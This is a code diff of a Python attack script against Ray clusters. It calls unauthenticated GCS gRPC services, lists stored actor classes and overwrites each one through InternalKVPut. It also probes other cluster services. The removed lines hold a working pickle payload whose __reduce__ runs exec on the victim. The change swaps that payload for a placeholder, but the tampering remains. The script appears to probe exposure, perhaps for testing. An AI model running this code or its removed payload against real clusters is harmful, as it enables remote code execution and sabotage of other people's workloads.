@@ -9,7 +9,6 @@ from __future__ import annotations
 import http.client
 import importlib
 import json
-import pickle
 import sys
 import time
 from typing import Any
@@ -18,7 +17,10 @@ from typing import Any
 grpc: Any = importlib.import_module("grpc")
 gcs: Any = importlib.import_module("ray.core.generated.gcs_service_pb2")
 
-ACTORS, FUNCTIONS = b"ActorClass", b"fun"  # where Ray keeps the pickled classes of actors
+ACTORS, FUNCTIONS = (
+    b"ActorClass",
+    b"fun",
+)  # the pickled classes of actors: who writes there runs code
 PATIENCE = 20.0  # seconds that it waits for an actor's class to turn up
 TRIES = 5
 # One call of each kind of service of a cluster; an empty request is enough to see whether somebody answers.
@@ -29,16 +31,6 @@ CALLS = (
     "ObjectManagerService/Push",
     "CoreWorkerService/GetCoreWorkerStats",
 )
-
-
-class Payload:
-    """Unpickled by its victim, it leaves a file that tells who that was."""
-
-    def __init__(self, loot: str) -> None:
-        self.loot = loot
-
-    def __reduce__(self) -> tuple[Any, ...]:
-        return exec, (f"import os; open({self.loot!r}, 'w').write(str(os.getuid()))",)
 
 
 def call(channel: Any, name: str, request: bytes = b"") -> tuple[str, bytes]:
@@ -76,31 +68,29 @@ def posted(port: int) -> str:
         connection.close()
 
 
-def replace_actors(channel: Any, loot: str) -> bool:
-    """Put a payload in the place of every actor's class, as soon as there is one; whether there was."""
+def replace_actors(channel: Any) -> bool:
+    """Put something of its own in the place of every actor's class, as soon as there is one; whether there was."""
     keys = gcs.InternalKVKeysRequest(namespace=FUNCTIONS, prefix=ACTORS).SerializeToString()
     done, end = False, time.monotonic() + PATIENCE
     while not done and time.monotonic() < end:
         for key in gcs.InternalKVKeysReply.FromString(call(channel, CALLS[0], keys)[1]).results:
-            get = gcs.InternalKVGetRequest(namespace=FUNCTIONS, key=key).SerializeToString()
-            kept = gcs.InternalKVGetReply.FromString(call(channel, "InternalKVGcsService/InternalKVGet", get)[1]).value
-            value = pickle.dumps({**pickle.loads(kept), "class": pickle.dumps(Payload(loot))})
-            put = gcs.InternalKVPutRequest(namespace=FUNCTIONS, key=key, value=value, overwrite=True)
+            put = gcs.InternalKVPutRequest(namespace=FUNCTIONS, key=key, value=b"a pickle of the thief's")
+            put.overwrite = True
             done |= call(channel, "InternalKVGcsService/InternalKVPut", put.SerializeToString())[0] == "OK"
         time.sleep(0.01)
     return done
 
 
-def attack(port: int, loot: str) -> dict[str, Any]:
+def attack(port: int) -> dict[str, Any]:
     """Everything this thief knows, tried on one port."""
     with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
         open_ = call(channel, CALLS[0])[0] == "OK"
-        replaced = open_ and replace_actors(channel, loot)  # at once, before anybody has read what it replaces
+        replaced = open_ and replace_actors(channel)
         said = [*(call(channel, name)[0] for name in CALLS), synchronised(channel), posted(port)]
         return {"port": port, "said": said, "replaced": replaced}
 
 
 if __name__ == "__main__":
     for line in iter(sys.stdin.readline, ""):
-        sys.stdout.write(json.dumps(attack(int(line), sys.argv[1])) + "\n")
+        sys.stdout.write(json.dumps(attack(int(line))) + "\n")
         sys.stdout.flush()
